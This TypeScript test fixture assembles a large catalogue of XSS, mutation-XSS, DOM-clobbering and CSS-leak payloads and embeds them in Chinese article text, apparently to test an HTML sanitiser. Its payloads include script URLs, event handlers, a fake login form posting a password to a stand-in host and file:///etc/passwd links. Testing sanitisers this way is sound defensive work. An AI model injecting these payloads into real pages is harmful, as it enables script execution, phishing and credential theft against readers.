/**
 * Markup that would run something, ask for something or reach into the page around it, if it were copied from a page as it is. Written for this
 * project, after the classes of attack that sanitisers publish in their own tests. `FIRE` sets a global and opens a dialog; every address is at `HOST`.
 */
export const HOST = 'evil.example';

const FIRE = 'alert(top.fired=1)';
const AT = `https://${HOST}`;

/** The same scheme as browsers read it, though it looks otherwise. */
const SCRIPT_ADDRESSES = [
  `javascript:${FIRE}`,
  `JaVaScRiPt:${FIRE}`,
  ` javascript:${FIRE}`,
  `&#1;javascript:${FIRE}`,
  `&#x1f;javascript:${FIRE}`,
  `java&#9;script:${FIRE}`,
  `java&#10;script:${FIRE}`,
  `java&#13;script:${FIRE}`,
  `javascript&colon;${FIRE}`,
  `javascript&#58;${FIRE}`,
  `javascript&#0000058${FIRE}`,
  `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${FIRE}`,
  `&#x6A;avascript:${FIRE}`,
  `javascript://${HOST}/%0a${FIRE}`,
  `javascript:void(0),${FIRE}`,
  `vbscript:${FIRE}`,
  `data:text/html,&lt;script&gt;${FIRE}&lt;/script&gt;`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCh0b3AuZmlyZWQ9MSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${FIRE}'/&gt;`,
  `data:application/xhtml+xml,&lt;script xmlns='http://www.w3.org/1999/xhtml'&gt;${FIRE}&lt;/script&gt;`,
  `view-source:javascript:${FIRE}`,
  `feed:javascript:${FIRE}`,
  `blob:javascript:${FIRE}`,
  `filesystem:javascript:${FIRE}`,
  `\u00a0javascript:${FIRE}`,
  `\ufeffjavascript:${FIRE}`,
  `ｊavascript:${FIRE}`,
  `javaſcript:${FIRE}`,
  `\u2028javascript:${FIRE}`,
  `\u2029javascript:${FIRE}`,
  `&#x1680;javascript:${FIRE}`,
  `&#x180e;javascript:${FIRE}`,
  `&#x2003;javascript:${FIRE}`,
  `&#x200b;javascript:${FIRE}`,
  `&#x205f;javascript:${FIRE}`,
  `&#x3000;javascript:${FIRE}`,
  `java\u0003script:${FIRE}`,
  `\u0001java\u0002script:${FIRE}`,
];

const links = SCRIPT_ADDRESSES.map((address) => `<a href="${address}">请点这里看全文</a>`);
const pictures = SCRIPT_ADDRESSES.slice(0, 20).map((address) => `<img src="${address}" alt="图">`);

/** Places besides href and src in which an address stands; reading takes some of them for the picture's real one. */
const ADDRESS_PLACES = [
  `<img data-src="javascript:${FIRE}.jpg">`,
  `<img data-original="data:text/html,<script>${FIRE}</script>.jpg">`,
  `<img srcset="javascript:${FIRE}/a.jpg 2x, ${AT}/a.jpg 1x">`,
  `<img lazy-src='x.jpg" onerror="${FIRE}'>`,
  `<img data-src='https://${HOST}/a.jpg"><script>${FIRE}</script>'>`,
  `<img src='https://${HOST}/a.jpg?"onerror=${FIRE}//'>`,
  `<img src="x.jpg" alt='"><script>${FIRE}</script>'>`,
  `<img src="x.jpg" alt="\`onerror=${FIRE} ">`,
  `<img src="x.jpg" alt='" onload="${FIRE}'>`,
  `<img src=x.jpg title='--><img src=x onerror=${FIRE}>'>`,
  `<a href='https://${HOST}/"onmouseover="${FIRE}'>引号里的链接</a>`,
  `<a href="https://${HOST}/&quot;&gt;&lt;script&gt;${FIRE}&lt;/script&gt;">实体里的链接</a>`,
  `<a href="https://${HOST}/'><img src=x onerror=${FIRE}>">尖括号里的链接</a>`,
  `<a href="//${HOST}\\@x/" ping="${AT}/ping">带回音的链接</a>`,
  `<a href="#" onclick="${FIRE}" style="position:fixed;inset:0">盖住全页的链接</a>`,
  `<a xlink:href="javascript:${FIRE}">旧式链接</a>`,
  `<area href="javascript:${FIRE}" shape="default">`,
  `<map name="m"><area href="javascript:${FIRE}" shape="rect" coords="0,0,999,999"></map><img src="x.jpg" usemap="#m">`,
  `<blockquote cite="javascript:${FIRE}">引文一段，说了些什么，没有人记得。</blockquote>`,
  `<table background="javascript:${FIRE}"><tr><td background="javascript:${FIRE}">一格</td><td>二格</td></tr></table>`,
  `<img src="x.jpg" longdesc="javascript:${FIRE}" lowsrc="javascript:${FIRE}" dynsrc="javascript:${FIRE}">`,
  `<picture><source srcset="javascript:${FIRE}"><img src="x.jpg" onerror="${FIRE}"></picture>`,
  `<figure><img src="x.jpg"><figcaption>图：<img src=x onerror=${FIRE}>说明</figcaption></figure>`,
];

const EVENTS: [tag: string, attributes: string][] = [
  ['img', `src=x onerror=${FIRE}`],
  ['img', `src=x onerror='${FIRE}'`],
  ['img', `src=x oNeRrOr=${FIRE}`],
  ['img', `src=x\nonerror\n=\n${FIRE}`],
  ['img', `src=x/onerror=${FIRE}`],
  ['img', `/src=x/onerror=${FIRE}`],
  ['img', `"" src=x onerror=${FIRE}`],
  ['img', `src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=${FIRE}`],
  ['body', `onload=${FIRE}`],
  ['body', `onpageshow=${FIRE}`],
  ['body', `onhashchange=${FIRE}`],
  ['div', `onmouseover=${FIRE} style=position:fixed;inset:0`],
  ['div', `tabindex=1 autofocus onfocus=${FIRE}`],
  ['p', `contenteditable autofocus onfocus=${FIRE}`],
  ['p', `oncopy=${FIRE} onselectstart=${FIRE}`],
  ['p', `style=animation-name:x onanimationstart=${FIRE}`],
  ['p', `style="transition:all 1s" ontransitionend=${FIRE}`],
  ['section', `onscrollend=${FIRE} onwheel=${FIRE}`],
  ['span', `onpointerrawupdate=${FIRE} onpointerenter=${FIRE}`],
  ['details', `open ontoggle=${FIRE}`],
  ['details', `open onbeforetoggle=${FIRE}`],
  ['video', `autoplay oncanplay=${FIRE} src=${AT}/a.mp4`],
  ['audio', `src=x onerror=${FIRE}`],
  ['input', `autofocus onfocus=${FIRE}`],
  ['select', `autofocus onfocus=${FIRE}`],
  ['textarea', `autofocus onfocus=${FIRE}`],
  ['button', `autofocus onfocus=${FIRE} popovertarget=x`],
  ['marquee', `onstart=${FIRE}`],
  ['object', `data=x onerror=${FIRE}`],
  ['iframe', `src=about:blank onload=${FIRE}`],
  ['keygen', `autofocus onfocus=${FIRE}`],
  ['x-card', `onclick=${FIRE} tabindex=0 autofocus onfocus=${FIRE}`],
  ['h2', `id=x onbeforematch=${FIRE} hidden=until-found`],
  ['li', `oncontentvisibilityautostatechange=${FIRE} style=content-visibility:auto`],
];
const events = EVENTS.map(([tag, attributes]) => `<${tag} ${attributes}>一段话在这里</${tag}>`);

const SCRIPTS = [
  `<script>${FIRE}</script>`,
  `<SCRIPT>${FIRE}</SCRIPT >`,
  `<script/x>${FIRE}</script/x>`,
  `<script src=${AT}/a.js></script>`,
  `<script src=//${HOST}/a.js></script>`,
  `<script src=data:,${FIRE}></script>`,
  `<script type=module>${FIRE}</script>`,
  `<script type=module>import '${AT}/a.js'</script>`,
  `<script type=importmap>{"imports":{"x":"${AT}/a.js"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"source":"list","urls":["${AT}/p"]}]}</script>`,
  `<script async defer>${FIRE}</script>`,
  `<script language=javascript1.2>${FIRE}</script>`,
  `<script for=window event=onload>${FIRE}</script>`,
  `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
  `<<script>${FIRE}//<</script>`,
  `<script\u0000>${FIRE}</script>`,
  `<p><script>${FIRE}</script>段落里的脚本，前后都有字。</p>`,
  `&lt;script&gt;${FIRE}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${FIRE}&amp;gt;`,
  `<pre>&lt;/pre&gt;&lt;img src=x onerror=${FIRE}&gt;</pre>`,
  `<code>&lt;/code&gt;&lt;script&gt;${FIRE}&lt;/script&gt;</code>`,
  `<p>&lt;/p&gt;&lt;svg onload=${FIRE}&gt; 写出来的标签</p>`,
  `<!--><script>${FIRE}</script>-->`,
  `<!--[if gte IE 4]><script>${FIRE}</script><![endif]-->`,
  `<!--x--!><img src=x onerror=${FIRE}>`,
  `<!-- --!><script>${FIRE}</script>`,
  `<![CDATA[><img src=x onerror=${FIRE}>]]>`,
  `<?xml version="1.0"?><?php ><img src=x onerror=${FIRE}>?>`,
  `</p/><img src=x onerror=${FIRE}>`,
  `</br/onload=${FIRE}>`,
];

const FRAMES = [
  `<iframe src="javascript:${FIRE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${FIRE}&gt;"></iframe>`,
  `<iframe src=${AT}/frame></iframe>`,
  `<iframe srcdoc='<form action="${AT}"><button>x'></iframe>`,
  `<iframe><img src=x onerror=${FIRE}></iframe>`,
  `<fencedframe src=${AT}/f></fencedframe>`,
  `<portal src=${AT}/p></portal>`,
  `<frameset onload=${FIRE}><frame src="javascript:${FIRE}"></frameset>`,
  `<object data="javascript:${FIRE}"></object>`,
  `<object data="data:text/html,<script>${FIRE}</script>"></object>`,
  `<object type=text/html data=${AT}/o></object>`,
  `<object><param name=movie value="javascript:${FIRE}"></object>`,
  `<object><img src=x onerror=${FIRE}></object>`,
  `<embed src="javascript:${FIRE}">`,
  `<embed src="data:image/svg+xml,<svg onload=${FIRE} xmlns='http://www.w3.org/2000/svg'/>">`,
  `<embed code=${AT}/e type=text/html allowscriptaccess=always>`,
  `<applet code="javascript:${FIRE}" archive=${AT}/a.jar></applet>`,
  `<meta http-equiv=refresh content="0;url=javascript:${FIRE}">`,
  `<meta http-equiv=refresh content="0;url=${AT}/gone">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${FIRE}</script>">`,
  `<meta http-equiv=set-cookie content="a=1">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<meta charset=utf-7>+ADw-script+AD4-${FIRE}+ADw-/script+AD4-`,
  `<base href="javascript:/${FIRE}//"><a href="x">相对的链接</a>`,
  `<base href=${AT}/base/><img src=x.jpg><a href=y>相对的图和链接</a>`,
  `<base target=_top>`,
  `<link rel=stylesheet href=${AT}/a.css>`,
  `<link rel=stylesheet href="javascript:${FIRE}">`,
  `<link rel=preload as=script href=${AT}/a.js>`,
  `<link rel=modulepreload href=${AT}/a.mjs>`,
  `<link rel=prefetch href=${AT}/next onload=${FIRE}>`,
  `<link rel=dns-prefetch href=//${HOST}>`,
  `<link rel=icon href=${AT}/i.png onerror=${FIRE}>`,
  `<link rel=import href=${AT}/i.html>`,
  `<link rel=manifest href=${AT}/m.json>`,
];

const FORMS = [
  `<form action="javascript:${FIRE}"><button>提交意见</button></form>`,
  `<form><button formaction="javascript:${FIRE}">提交意见</button></form>`,
  `<form><input type=submit formaction="javascript:${FIRE}"></form>`,
  `<form><input type=image src=${AT}/b.png formaction="javascript:${FIRE}" onerror=${FIRE}></form>`,
  `<form id=f></form><button form=f formaction="javascript:${FIRE}">外面的按钮</button>`,
  `<form action=${AT}/steal><input name=password autofocus><p>请再次登录以阅读全文</p></form>`,
  `<isindex type=image src=1 onerror=${FIRE}>`,
  `<form name=body><input name=innerHTML value="<img src=x onerror=${FIRE}>"></form>`,
  `<form id=document><input name=body></form>`,
  `<form><input name=nextSibling><input name=attributes><p>表单里的一段话。</p></form>`,
  `<form><input name=parentNode><input name=tagName><p>表单里的一段话。</p></form>`,
  `<form><input name=nodeName><input name=childNodes><p>表单里的一段话。</p></form>`,
  `<form><input name=getAttribute><input name=removeChild><p>表单里的一段话。</p></form>`,
  `<form><img name=firstChild src=x onerror=${FIRE}><p>表单里的一段话。</p></form>`,
  `<img name=querySelector><img name=createElement><img name=getElementById>`,
  `<a id=chrome href="javascript:${FIRE}"></a><a id=browser></a><a id=browser name=runtime></a>`,
  `<h2 id=article>一、小标题</h2><h2 id=location name=location>二、小标题</h2><p>后面的话。</p>`,
  `<h2 id="x&quot; onclick=&quot;${FIRE}">一、带引号的编号</h2><p>后面的话。</p>`,
  `<output form=f name=ownerDocument></output><form id=f><p>表单里的一段话。</p></form>`,
  `<fieldset name=parentElement form=g></fieldset><form id=g><p>表单里的一段话。</p></form>`,
];

const STYLES = [
  `<style>@import '${AT}/a.css';</style>`,
  `<style>@import url(javascript:${FIRE});</style>`,
  `<style>*{background:url(${AT}/bg)}</style>`,
  `<style>body{display:none}article{position:fixed}</style>`,
  `<style>@font-face{font-family:x;src:url(${AT}/f)}*{font-family:x}</style>`,
  `<style>input[value^=a]{background:url(${AT}/a)}</style>`,
  `<style><img src="</style><img src=x onerror=${FIRE}>"></style>`,
  `<style>*{x:</style><script>${FIRE}</script>}</style>`,
  `<style>:target{color:red;animation:x}@keyframes x{}</style><p id=x onanimationend=${FIRE}>动画里的话</p>`,
  `<p style="background:url(${AT}/bg)">有底图的话</p>`,
  `<p style="background-image:url('javascript:${FIRE}')">有底图的话</p>`,
  `<p style="width:expression(${FIRE})">有宽度的话</p>`,
  `<p style="-moz-binding:url(${AT}/x.xml#x)">有绑定的话</p>`,
  `<p style="behavior:url(${AT}/x.htc)">有行为的话</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:#fff">盖住全页的话，读者看不见别的。</p>`,
  `<p style="content:url(${AT}/c)">有内容的话</p>`,
  `<p style="x:\\75rl(${AT}/u);list-style:\\000075rl(${AT}/l)">转义的样式</p>`,
  `<p style='color:red"onclick="${FIRE}'>有引号的样式</p>`,
  `<p style="cursor:url(${AT}/c),auto;filter:url(${AT}/f#f);mask:url(${AT}/m)">有光标的话</p>`,
  `<font color="red' onclick='${FIRE}" face="x;background:url(${AT}/f)">有颜色的话</font>`,
];

const FOREIGN = [
  `<svg onload=${FIRE}></svg>`,
  `<svg/onload=${FIRE}//`,
  `<svg><script>${FIRE}</script></svg>`,
  `<svg><script href="data:,${FIRE}"/></svg>`,
  `<svg><script xlink:href=data:,${FIRE}></script></svg>`,
  `<svg><a xlink:href="javascript:${FIRE}"><text x=20 y=20>图里的链接</text></a></svg>`,
  `<svg><a href="javascript:${FIRE}"><rect width=999 height=999 /></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${FIRE}"/><text y=20>会动的链接</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${FIRE}"/><text y=20>会变的链接</text></a></svg>`,
  `<svg><animate onbegin=${FIRE} attributeName=x dur=1s></svg>`,
  `<svg><animateTransform onbegin=${FIRE} attributeName=transform></svg>`,
  `<svg><set onend=${FIRE} attributeName=x dur=1ms></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${FIRE}</script></svg>#x"/></svg>`,
  `<svg><use xlink:href=${AT}/x.svg#x></use></svg>`,
  `<svg><image href=${AT}/i.png onerror=${FIRE}></image></svg>`,
  `<svg><feImage href=${AT}/i.png /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${FIRE}</script>"></iframe></foreignObject></svg>`,
  `<svg><foreignObject><img src=x onerror=${FIRE}><p>图里的一段话</p></foreignObject></svg>`,
  `<svg><style>*{background:url(${AT}/s)}</style></svg>`,
  `<svg><style><img src=x onerror=${FIRE}></style></svg>`,
  `<svg><title><img src=x onerror=${FIRE}></title></svg>`,
  `<svg><desc><p><img src=x onerror=${FIRE}></p></desc></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${FIRE}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${FIRE}>">`,
  `<svg><![CDATA[<img src=x onerror=${FIRE}>]]></svg>`,
  `<svg><metadata><script xmlns="http://www.w3.org/1999/xhtml">${FIRE}</script></metadata></svg>`,
  `<svg><discard onbegin=${FIRE}></svg>`,
  `<svg><handler type=text/javascript>${FIRE}</handler></svg>`,
  `<math href="javascript:${FIRE}">算式里的链接</math>`,
  `<math><mi xlink:href="javascript:${FIRE}">x</mi></math>`,
  `<math><maction actiontype=statusline#https://${HOST} xlink:href="javascript:${FIRE}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${FIRE}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${FIRE}>`,
  `<math><annotation-xml encoding=text/html><img src=x onerror=${FIRE}></annotation-xml></math>`,
  `<math><annotation-xml encoding=application/xhtml+xml><script>${FIRE}</script></annotation-xml></math>`,
  `<math><mtext><img src=x onerror=${FIRE}></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${FIRE}</script>">x</mi></math>`,
  `<math><style><!--</style><p title="--><img src=x onerror=${FIRE}>">算式后的话</p>`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">没有脚本时的话</p></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${FIRE}></style></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${FIRE}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${FIRE}>"></noframes>`,
  `<textarea><p title="</textarea><img src=x onerror=${FIRE}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${FIRE}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${FIRE}>"></xmp>`,
  `<iframe><p title="</iframe><img src=x onerror=${FIRE}>"></iframe>`,
  `<template><script>${FIRE}</script></template>`,
  `<template><img src=x onerror=${FIRE}><template><svg onload=${FIRE}></template></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${FIRE}><slot></slot></template><p>影子里的话</p></div>`,
  `<div><template shadowrootmode=closed><style>@import '${AT}/a.css'</style></template></div>`,
  `<table><tr><td><a href="javascript:${FIRE}">格里的链接</a></td><td onclick=${FIRE}>二格</td></tr></table>`,
  `<table><img src=x onerror=${FIRE}><tr><td>被移出的图</td><td>二格</td></tr></table>`,
  `<table><tr><td colspan="2&quot; onclick=&quot;${FIRE}">宽格</td></tr><tr><td>一</td><td>二</td></tr></table>`,
  `<table><tr><td rowspan='9"><script>${FIRE}</script>'>高格</td><td>一</td></tr><tr><td>二</td></tr></table>`,
  `<table><caption><img src=x onerror=${FIRE}>表：说明</caption><tr><td>一</td><td>二</td></tr></table>`,
  `<ol start="1&quot; onmouseover=&quot;${FIRE}"><li value='2" onclick="${FIRE}'>第一条</li><li>第二条</li></ol>`,
  `<ul type='disc" onclick="${FIRE}'><li>第一条里的话</li><li>第二条里的话</li></ul>`,
  `<p lang='zh" onclick="${FIRE}'>有语言的话</p>`,
  `<time datetime='2024-01-02" onclick="${FIRE}'>2024年1月2日</time>`,
  `<ruby onclick=${FIRE}>读<rt><img src=x onerror=${FIRE}>du</rt></ruby>`,
  `<select><option><style></option></select><img src=x onerror=${FIRE}></style></select>`,
  `<select><iframe></select><img src=x onerror=${FIRE}></iframe>`,
  `<listing>&lt;img src=x onerror=${FIRE}&gt;</listing>`,
  `<pre>\n\n&lt;img src=1 onerror=${FIRE}&gt;</pre>`,
  `<a><b><a href="javascript:${FIRE}">套着的链接</b></a></a>`,
  `<p><b><i><p><a href="javascript:${FIRE}"><b></p>错开的标签</i></b>`,
  `${'<div>'.repeat(510)}<svg><style><img title="</style><img src=x onerror=${FIRE}>">${'</div>'.repeat(510)}`,
  `${'<b>'.repeat(520)}<table><td><svg><title><img src=x onerror=${FIRE}></title></svg></table>`,
  `<plaintext><script>${FIRE}</script>`,
  `<img src="x.jpg" alt="</figcaption></figure><script>${FIRE}</script>">`,
  `<img src="x.jpg"><p>图：&lt;script&gt;${FIRE}&lt;/script&gt;</p>`,
  `<h2>一、&lt;img src=x onerror=${FIRE}&gt;</h2><p>小标题后的话。</p>`,
  `<p>\u202e&gt;)1=derif.pot(trela=rorreno x=crs gmi&lt;</p>`,
  `<p>\u0000<\u0000img src=x onerror=${FIRE}>空字符</p>`,
  `<p>＜script＞${FIRE}＜/script＞全角的标签</p>`,
  `<p>\ud83d<img src=x onerror=${FIRE}>\ude00拆开的表情</p>`,
  `<p>&lt\u200b;script&gt;${FIRE}&lt;/script&gt;</p>`,
  `<p>&LT;SCRIPT&GT;${FIRE}&LT;/SCRIPT&GT;</p>`,
  `<p is="x-p" slot="x" part="x" nonce="x" popover onbeforetoggle=${FIRE}>有属性的话</p>`,
  `<dialog open onclose=${FIRE}><form method=dialog><button autofocus>好</button></form>对话里的话</dialog>`,
  `<a href="${AT}/" target=_blank rel=opener>带着来处的链接</a>`,
  `<a href="${AT}/" download="x.html">要下载的链接</a>`,
  `<a href="chrome-extension://x/library.html">我们自己的页面</a>`,
  `<a href="moz-extension://x/library.html">我们自己的页面</a>`,
  `<a href="file:///etc/passwd">文件的链接</a><img src="file:///etc/passwd">`,
  `<img src="chrome://favicon/x"><img src="ws://${HOST}/x"><img src="ftp://${HOST}/x.jpg">`,
];

/** What a page names after the properties by which whoever walks over it finds its way. */
const CLOBBERED = [
  ...[
    'nodeType',
    'namespaceURI',
    'hasChildNodes',
    'removeAttributeNode',
    'setAttribute',
    'submit',
    'acceptCharset',
  ],
  ...[
    'activeElement',
    'children',
    'lastChild',
    'previousSibling',
    'textContent',
    'innerText',
    'shadowRoot',
    'closest',
  ],
];
const clobbering = CLOBBERED.map(
  (name) =>
    `<form onmouseover=${FIRE}><input name=${name} onfocus=${FIRE} autofocus><p>名字不对的表单里的一段话。</p></form>`,
);

/** Attributes that no browser knows, or that are spelt so that a parser loses its place. */
const ATTRIBUTES = [
  `<img src=x name/=' onerror=${FIRE}//'>`,
  `<p data-x=1 =onclick=${FIRE} ' onmouseover=${FIRE}//'>写错的属性</p>`,
  `<p x:y=1 \u00a0onclick=${FIRE} xml:base="javascript:${FIRE}">带名字空间的属性</p>`,
  `<div aria-x="\u0000" onmouseover\u0000=${FIRE} "onclick"=${FIRE}>空字符的属性</div>`,
  `<a folder="javascript:${FIRE}" style="behavior:url(#default#AnchorClick)" unknown=javascript:${FIRE}>旧式文件夹</a>`,
  `<img src=x style="x:\\" onerror=${FIRE} class=\`onerror=${FIRE}\`>`,
  `<video poster="javascript:${FIRE}"><source onerror=${FIRE} src=x></video>`,
  `<p draggable=true ondragstart="event.dataTransfer.setData('text/html','<img src=x onerror=${FIRE}>')">拖得动的话</p>`,
  `<input dirname=password name=x value=y><input type=search autofocus onsearch=${FIRE}>`,
  `<body oninput=${FIRE}><input autofocus onblur=${FIRE}>`,
  `<img src="javascript:for(;;){}"><a href="javascript:for(;;){}">停不下来的链接</a>`,
  `<form><input pattern="^((b+.)b)+$" value="bbbbbbbbbbbb!" autofocus><button>比不完的格式</button></form>`,
  `<x repeat=template repeat-start=999999>一<y repeat=template repeat-start=999999>二</y></x>`,
  `<meta charset=x-imap4-modified-utf7>&ADw-img src=x onerror=${FIRE}&AD4-`,
  `<meta charset=x-mac-farsi>\u00bcscript \u00be${FIRE}//\u00bc/script \u00be`,
];

/** Declarations, instructions and end tags with quotes in them, where one parser still is inside what another has left. */
const QUOTED = [
  `<y '="z"><y z='><img src=x onerror=${FIRE}//'>`,
  `<! '="z"><y z='><img src=x onerror=${FIRE}//'>`,
  `<? z="><script>${FIRE}</script>">`,
  `</ z="><script>${FIRE}</script>">`,
  `<! z="[[[y]]"><y z="]z><script>${FIRE}</script>">`,
  `<% z><y z="%><script>${FIRE}</script>">`,
  `<![><img src="]><img src=x onerror=${FIRE}//">`,
  `<!--<img src="--><img src=x onerror=${FIRE}//">`,
  `<b <script>${FIRE}//</script>0</script></b>`,
  `<svg><set attributeName=onmouseover to="${FIRE}"/><animate attributeName=onunload to="${FIRE}"/></svg>`,
  `<iframe src="mhtml:${AT}/a.html!b.html"></iframe>`,
  `<card xmlns="http://www.wapforum.org/2001/wml"><onevent type=ontimer><go href="javascript:${FIRE}"/></onevent><timer value=1></card>`,
];

/** Of engines that are gone, and of documents that are no HTML: still to be met on old pages, and in what old sanitisers let through. */
const OLD_ENGINES = [
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,<x/>"?><stylesheet><template match="/"><eval>${FIRE}</eval></template></stylesheet>`,
  `<?import namespace="t" implementation="#default#time2"?><t:set attributename="innerHTML" to="<img src=x onerror=${FIRE}>">`,
  `<xml id=island src=${AT}/i.xml onreadystatechange=${FIRE}><x><![CDATA[<img src=x onerror=${FIRE}>]]></x></xml><p datasrc=#island datafld=x dataformatas=html>数据岛里的话</p>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${FIRE}</x:script>`,
  `<html:img xmlns:html="http://www.w3.org/1999/xhtml" src="x" onerror="${FIRE}"></html:img>`,
  `<!DOCTYPE x [<!ENTITY y "&lt;img src=x onerror=${FIRE}&gt;">]><y>&y;</y>`,
  `<v:vmlframe xmlns:v="urn:schemas-microsoft-com:vml" style="behavior:url(#default#VML)" src=${AT}/v.xml></v:vmlframe>`,
  `<event-source src=${AT}/events onload=${FIRE}></event-source>`,
  `<bgsound src="javascript:${FIRE}"><layer src="javascript:${FIRE}"></layer><ilayer src=${AT}/l></ilayer>`,
  `<comment><img src="</comment><img src=x onerror=${FIRE}>"></comment>`,
  `<image src=x onerror=${FIRE}></image>`,
  `<xmp><%</xmp><img alt='%></xmp><img src=x onerror=${FIRE}//'>`,
  `<!-- \`<img/src=x onerror=${FIRE}//--!>`,
  `<listener event=load handler="javascript:${FIRE}" xmlns="http://www.w3.org/2001/xml-events"></listener>`,
  `<p style="-o-link:'javascript:${FIRE}';-o-link-source:current">会跳走的话</p>`,
  `<p style="filter:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>${FIRE}</script></svg>')">有滤镜的话</p>`,
];

/** Elements of one language within another, closed in an order that a second parsing takes otherwise. */
const NESTED = [
  `<svg></p><textarea><desc><style></textarea><img src=x onerror=${FIRE}></style></desc></svg>`,
  `<svg></p><title><p id="</title><img src=x onerror=${FIRE}>"></textarea></svg>`,
  `<math></p><textarea><mo><style></textarea><img src=x onerror=${FIRE}></mo></math>`,
  `<math></br><textarea><ms><template><style></textarea><img src=x onerror=${FIRE}>`,
  `<svg></p><math><title><style><img src=x onerror=${FIRE}></style></title>`,
  `<svg><foreignObject><p><style><i title="</style><iframe onload&#x3d;${FIRE}<!--"></style>`,
  `<math><annotation-xml encoding="text/html"><p><style><i title="</style><iframe onload&#x3d;${FIRE}<!--"></style>`,
  `<noembed><svg><i><style><i title='</style><img src=x onerror=${FIRE}>'>`,
  `<xmp><math><i><style><i title='</style><img src=x onerror=${FIRE}>'>`,
  `<math><mtext><table><mglyph><style><math href="javascript:${FIRE}">表里的算式</math>`,
  `<math><mtext><h2><a><h5></a></h5><mglyph><svg><mtext><style><i title="</style><img src onerror='${FIRE}'>"></style></h2>`,
  `<math><mtext><option><x-fake><option></option><mglyph><svg><mtext><style><i title="</style><img src=x onerror='${FIRE}'>">`,
  `话<svg><x-fake><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;i title="&lt;/style>&lt;img src onerror=${FIRE}>">`,
  `<select><template><img src=x onerror=${FIRE}></template></select>`,
  `<svg><image xmlns:xlink="http://www.w3.org/1999/xlink"><set attributeName="xlink:href" begin="accessKey(a)" to="${AT}/a"/></image></svg>`,
  `<svg><a xlink:href="?"><circle r=400></circle><animate attributeName="xlink:href" begin=0 from="javascript:${FIRE}" to="&"/></a></svg>`,
];

export const ATTACKS: readonly string[] = [
  ...links,
  ...pictures,
  ...ADDRESS_PLACES,
  ...events,
  ...SCRIPTS,
  ...FRAMES,
  ...FORMS,
  ...STYLES,
  ...FOREIGN,
  ...MUTATIONS,
  ...clobbering,
  ...ATTRIBUTES,
  ...QUOTED,
  ...OLD_ENGINES,
  ...NESTED,
];

/** Of the text around each attack. */
export const SENTENCE = '坐席说完这句话，电话那头安静了很久，然后传来一声很轻的谢谢。';

/** Ends whatever an attack may have left open, so that several can stand in one text. */
const CLOSE =
  '--></style></script></textarea></title></xmp></noscript></noembed></noframes></select></iframe></svg></math></table>';

/** What keeps all that follows within itself, whatever is closed behind it. */
const isTrap = (attack: string) => NESTED.includes(attack) || /<mglyph>|<plaintext>/.test(attack);

/** All of them in texts of `size` attacks; those that nothing closes stand alone. A paragraph goes before: a frameset would be a document without text. */
export function attackTexts(size: number): string[] {
  const others = ATTACKS.filter((attack) => !isTrap(attack));
  const starts = Array.from({ length: Math.ceil(others.length / size) }, (_, at) => at * size);
  const texts = starts.map((from) => others.slice(from, from + size).join(CLOSE));
  return [...texts, ...ATTACKS.filter(isTrap)].map((text) => `<p>${SENTENCE}</p>${text}`);
}

/** An article with the attack in the midst of its text. */
export function attackedArticle(attack: string): string {
  const paragraph = `<p>${SENTENCE.repeat(4)}</p>`;
  return `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>凌晨的值班室_一家周刊</title></head><body>
<h1>凌晨的值班室</h1><p>来源：一家周刊　作者：宋知远　2026-11-02 10:30</p>
<div>${paragraph.repeat(3)}${attack}${paragraph.repeat(3)}</div></body></html>`;
}
